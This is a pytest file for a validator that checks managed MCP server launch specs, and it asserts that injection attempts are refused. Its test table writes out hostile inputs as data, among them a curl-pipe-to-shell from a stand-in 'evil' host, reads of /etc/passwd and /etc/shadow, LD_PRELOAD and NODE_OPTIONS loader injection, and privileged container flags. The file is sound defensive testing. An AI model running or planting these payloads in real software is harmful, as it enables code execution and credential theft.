"""What may be asked of a managed server: every way to smuggle an option, a path or code in breaks a named rule."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as some
from mystic_agent.contract.errors import Invalid
from mystic_collector.servers.launch import argv_of, image_of
from mystic_collector.servers.spec import Secret
from mystic_collector.servers.validation import read_spec

NPX = {"name": "one", "server_type": "npx", "package": "@modelcontextprotocol/server-everything"}
IMAGE = {"name": "one", "server_type": "docker", "image": "mcp/time:1.0"}
REFUSED: list[tuple[str, dict[str, Any], str, str]] = [
    ("package", {**NPX, "package": "x; curl http://evil | sh"}, "package", "never a command"),
    ("package-option", {**NPX, "package": "--node-options=--require=/x"}, "package", "never a command"),
    ("package-url", {**NPX, "package": "https://evil.example/x.tgz"}, "package", "URL or path"),
    ("package-git", {**NPX, "package": "github:evil/x"}, "package", "URL or path"),
    ("package-alias", {**NPX, "package": "x@npm:evil"}, "package", "URL or path"),
    ("package-file", {**NPX, "package": "x@file:../evil"}, "package", "URL or path"),
    ("package-parent", {**NPX, "package": "../evil"}, "package", "URL or path"),
    ("package-newline", {**NPX, "package": "x\n--yes"}, "package", "never a command"),
    ("package-list", {**NPX, "package": ["x"]}, "package", "never a command"),
    ("package-absent", {"name": "one", "server_type": "uv"}, "package", "name one package"),
    ("package-pep508-url", {**NPX, "server_type": "uv", "package": "x @ git+https://evil"}, "package", "URL or path"),
    ("package-uv-option", {**NPX, "server_type": "uv", "package": "--index-url=http://evil"}, "package", "never"),
    ("package-python", {**NPX, "server_type": "python", "package": "-r/etc/passwd"}, "package", "never a command"),
    ("package-of-image", {**IMAGE, "package": "x"}, "package", "leave it out"),
    ("image-option", {**IMAGE, "image": "--privileged"}, "image", "never an option"),
    ("image-words", {**IMAGE, "image": "x --privileged"}, "image", "never an option"),
    ("image-shell", {**IMAGE, "image": "x;id"}, "image", "never an option"),
    ("image-parent", {**IMAGE, "image": "../../etc"}, "image", "never an option"),
    ("image-absent", {"name": "one", "server_type": "docker"}, "image", "name the image"),
    ("env-preload", {**NPX, "env": {"LD_PRELOAD": "/x.so"}}, "env.LD_PRELOAD", "loader or interpreter"),
    ("env-preload-lower", {**NPX, "env": {"ld_preload": "/x.so"}}, "env.ld_preload", "loader or interpreter"),
    ("env-library", {**NPX, "env": {"LD_LIBRARY_PATH": "/x"}}, "env.LD_LIBRARY_PATH", "loader"),
    ("env-node", {**NPX, "env": {"NODE_OPTIONS": "-r /x"}}, "env.NODE_OPTIONS", "loader"),
    ("env-python", {**NPX, "env": {"PYTHONSTARTUP": "/x"}}, "env.PYTHONSTARTUP", "loader"),
    ("env-pythonpath", {**NPX, "env": {"PYTHONPATH": "/x"}}, "env.PYTHONPATH", "loader"),
    ("env-npm", {**NPX, "env": {"npm_config_script_shell": "/x"}}, "env.npm_config_script_shell", "loader"),
    ("env-path", {**NPX, "env": {"PATH": "/x"}}, "env.PATH", "loader"),
    ("env-bash", {**NPX, "env": {"BASH_ENV": "/x"}}, "env.BASH_ENV", "loader"),
    ("env-java", {**NPX, "env": {"JAVA_TOOL_OPTIONS": "-javaagent:x"}}, "env.JAVA_TOOL_OPTIONS", "loader"),
    ("env-name", {**NPX, "env": {"A=B": "x"}}, "env", "letters, digits"),
    ("env-nul", {**NPX, "env": {"A": "x\0LD_PRELOAD=y"}}, "env.A", "give a text"),
    ("env-number", {**NPX, "env": {"A": 1}}, "env.A", "give a text"),
    ("env-list", {**NPX, "env": ["A=b"]}, "env", "an object"),
    ("env-large", {**NPX, "env": {"A": "x" * 70_000}}, "env", "bytes in all"),
    ("secret-preload", {**NPX, "secrets": [{"env": "LD_PRELOAD", "secret": "x"}]}, "secrets[0].env", "loader"),
    ("secret-path", {**NPX, "secrets": [{"env": "A", "secret": "../../etc/shadow"}]}, "secrets[0].secret", "the name"),
    ("secret-dots", {**NPX, "secrets": [{"env": "A", "secret": "a..b"}]}, "secrets[0].secret", "the name"),
    ("secret-key", {**NPX, "secrets": [{"env": "A", "secret": "a", "key": ".."}]}, "secrets[0].key", "name a key"),
    ("secret-value", {**NPX, "secrets": [{"env": "A", "value": "hunter2"}]}, "secrets[0]", "name of the variable"),
    ("secret-twice", {**NPX, "env": {"A": "x"}, "secrets": [{"env": "A", "secret": "x"}]}, "secrets", "once"),
    ("name-parent", {**NPX, "name": "../"}, "name", "a-z, 0-9 and -"),
    ("name-upper", {**NPX, "name": "One"}, "name", "a-z, 0-9 and -"),
    ("name-slash", {**NPX, "name": "a/b"}, "name", "a-z, 0-9 and -"),
    ("name-end", {**NPX, "name": "a-"}, "name", "no - at either end"),
    ("name-newline", {**NPX, "name": "a\n"}, "name", "a-z, 0-9 and -"),
    ("name-long", {**NPX, "name": "a" * 41}, "name", "1 to 40"),
    ("name-absent", {"server_type": "npx", "package": "x"}, "name", "1 to 40"),
    ("command-text", {**IMAGE, "command": "python -m x; id"}, "command", "no shell reads it"),
    ("command-shell", {**IMAGE, "command": ["/bin/sh", "-c", "id"]}, "command[0]", "a shell is never run"),
    ("command-bash", {**IMAGE, "command": ["bash"]}, "command[0]", "a shell is never run"),
    ("command-option", {**IMAGE, "command": ["--privileged"]}, "command[0]", "name a program"),
    ("command-parent", {**IMAGE, "command": ["../../bin/x"]}, "command[0]", "without '..'"),
    ("command-of-package", {**NPX, "command": ["curl", "http://evil"]}, "command", "the program to run"),
    ("command-numbers", {**IMAGE, "command": [1]}, "command", "list of texts"),
    ("args-text", {**NPX, "args": "a b; id"}, "args", "no shell reads it"),
    ("args-control", {**NPX, "args": ["a\x1b]0;x"]}, "args[0]", "control characters"),
    ("args-many", {**NPX, "args": ["x"] * 65}, "args", "at most 64"),
    ("type", {**NPX, "server_type": "shell"}, "server_type", "one of archon"),
    ("type-absent", {"name": "one"}, "server_type", "one of archon"),
    ("transport", {**NPX, "transport": "tcp"}, "transport", "one of stdio"),
    ("port-of-stdio", {**NPX, "port": 8000}, "port", "listens nowhere"),
    ("port-low", {**IMAGE, "transport": "http", "port": 80}, "port", "1024 to 65535"),
    ("port-true", {**IMAGE, "transport": "http", "port": True}, "port", "1024 to 65535"),
    ("path-parent", {**IMAGE, "transport": "http", "path": "/../x"}, "path", "without '..'"),
    ("path-host", {**IMAGE, "transport": "http", "path": "//evil/x"}, "path", "absolute path"),
    ("path-user", {**IMAGE, "transport": "http", "path": "@evil/x"}, "path", "absolute path"),
    ("network", {**IMAGE, "network": "host"}, "network", "one of outbound"),
    ("network-of-http", {**IMAGE, "transport": "http", "network": "none"}, "network", "leave it out"),
    ("memory", {**IMAGE, "limits": {"memory": "1Ti"}}, "limits.memory", "from 16Mi"),
    ("cpu", {**IMAGE, "limits": {"cpu": "-1"}}, "limits.cpu", "thousandths"),
    ("limit", {**IMAGE, "limits": {"disk": 1}}, "limits", "give an object"),
    ("timeout", {**IMAGE, "timeout": float("inf")}, "timeout", "seconds from"),
    ("selector", {**IMAGE, "placement": {"node_selector": {"a b": "c"}}}, "placement.node_selector.a b", "a label"),
    ("toleration", {**IMAGE, "placement": {"tolerations": [{"x": 1}]}}, "placement.tolerations[0]", "an object"),
    ("affinity", {**IMAGE, "placement": {"affinity": {"x": 1}}}, "placement.affinity", "an object"),
    ("privileged", {**IMAGE, "privileged": True}, "privileged", "give name"),
    ("volumes", {**IMAGE, "volumes": ["/:/host"]}, "volumes", "give name"),
    ("typo", {**NPX, "pakage": "x"}, "pakage", "did you mean 'package'?"),
]


@pytest.mark.parametrize(("fields", "field", "rule"), [row[1:] for row in REFUSED], ids=[row[0] for row in REFUSED])
def test_what_breaks_a_rule_is_refused_with_the_field_and_the_rule(
    fields: dict[str, Any], field: str, rule: str
) -> None:
    with pytest.raises(Invalid) as refused:
        read_spec(fields)
    assert refused.value.field == field
    assert rule in refused.value.remedy


def test_values_of_variables_and_secrets_are_never_part_of_a_refusal() -> None:
    for fields in (
        {**NPX, "env": {"A": "hunter2\0"}},
        {**NPX, "secrets": [{"env": "A", "secret": "hunter2 is the value"}]},
        {**NPX, "secrets": [{"env": "A", "secret": "a", "key": "hunter2 is it"}]},
        {**NPX, "secrets": [{"env": "A", "value": "hunter2"}]},
    ):
        with pytest.raises(Invalid) as refused:
            read_spec(fields)
        assert "hunter2" not in str(refused.value)
    assert "hunter2" not in repr(read_spec({**NPX, "env": {"A": "hunter2"}}))


@pytest.mark.parametrize(
    ("fields", "argv", "image"),
    [
        (NPX, ["npx", "--yes", "--", "@modelcontextprotocol/server-everything"], "node:24-slim"),
        (
            {**NPX, "package": "x@1.2.3", "command": ["tool"], "args": ["--a", "b; id", "$(id)"]},
            ["npx", "--yes", "--package=x@1.2.3", "--", "tool", "--a", "b; id", "$(id)"],
            "node:24-slim",
        ),
        (
            {**NPX, "server_type": "uv", "package": "mcp-server-time[x]==1.0", "args": ["-v"]},
            ["uvx", "--quiet", "mcp-server-time[x]==1.0", "-v"],
            "ghcr.io/astral-sh/uv:python3.13-bookworm-slim",
        ),
        (
            {**NPX, "server_type": "uv", "package": "x", "command": "tool"},
            ["uvx", "--quiet", "--from", "x", "tool"],
            "ghcr.io/astral-sh/uv:python3.13-bookworm-slim",
        ),
        ({**IMAGE, "args": ["--local-timezone", "UTC"]}, ["--local-timezone", "UTC"], "mcp/time:1.0"),
        (
            {**IMAGE, "image": "registry.example:5000/a/b_c@sha256:" + "0" * 64, "command": ["/bin/server", "-x"]},
            ["/bin/server", "-x"],
            "registry.example:5000/a/b_c@sha256:" + "0" * 64,
        ),
        ({**IMAGE, "image": "localhost:5000/time"}, [], "localhost:5000/time:latest"),
        ({"name": "one", "server_type": "archon", "image": "archon"}, [], "archon:latest"),
    ],
)
def test_a_sound_request_becomes_an_argv_and_an_image(fields: dict[str, Any], argv: list[str], image: str) -> None:
    spec = read_spec(fields)
    assert list(argv_of(spec)) == argv
    assert image_of(spec) == image


def test_archon_has_no_image_unless_one_is_named() -> None:
    spec = read_spec({"name": "one", "server_type": "archon"})
    with pytest.raises(Invalid, match="MYSTIC_SERVERS_IMAGES"):
        image_of(spec)
    assert image_of(spec, {"archon": "archon:2"}) == "archon:2"


def test_a_python_package_is_installed_and_run_as_a_module_without_a_shell() -> None:
    spec = read_spec({**NPX, "server_type": "python", "package": "mcp-server-time==1.0", "args": ["--x"]})
    assert argv_of(spec)[:2] == ("python", "-c")
    assert argv_of(spec)[3:] == ("mcp-server-time==1.0", "mcp_server_time", "--x")
    compile(argv_of(spec)[2], "launcher", "exec")


def test_defaults_are_those_of_the_originals() -> None:
    spec = read_spec({"name": "one", "server_type": "archon", "secrets": [{"env": "A", "secret": "b", "key": "c"}]})
    assert (spec.transport, spec.port, spec.path) == ("http", 8051, "/mcp")
    assert (spec.limits.cpu, spec.limits.cpu_request) == (500, 250)
    assert (spec.limits.memory, spec.limits.memory_request) == (512 * 2**20, 256 * 2**20)
    assert spec.secrets == (Secret("A", "b", "c"),)
    assert read_spec({**IMAGE, "transport": "sse"}).path == "/sse"
    assert read_spec({**IMAGE, "transport": "streamable-http"}).transport == "http"
    small = read_spec({**IMAGE, "limits": {"cpu": "100m", "memory": "64Mi"}}).limits
    assert (small.cpu_request, small.memory_request) == (100, 64 * 2**20)


def test_a_spec_survives_the_way_to_an_engine_and_back() -> None:
    placement = {"context": "east", "node_selector": {"a": "b"}, "tolerations": [{"key": "x", "operator": "Exists"}]}
    for fields in (NPX, {**IMAGE, "env": {"A": "b"}, "limits": {"cpu": "1.5"}, "placement": placement}):
        spec = read_spec(fields)
        assert read_spec(spec.to_json(values=True)) == spec
        assert "env" not in spec.to_json() or spec.to_json()["env"] == sorted(spec.env)


@given(some.dictionaries(some.sampled_from([*NPX, "args", "env", "image", "secrets", "limits"]), some.recursive(
    some.none() | some.booleans() | some.integers() | some.floats() | some.text(max_size=20),
    lambda inner: some.lists(inner, max_size=3) | some.dictionaries(some.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)))  # fmt: skip
def test_whatever_is_sent_is_a_spec_or_a_refusal(fields: dict[str, Any]) -> None:
    try:
        spec = read_spec(fields)
    except Invalid:
        return
    assert not any(part.startswith("-") for part in (spec.name, spec.package, spec.image))
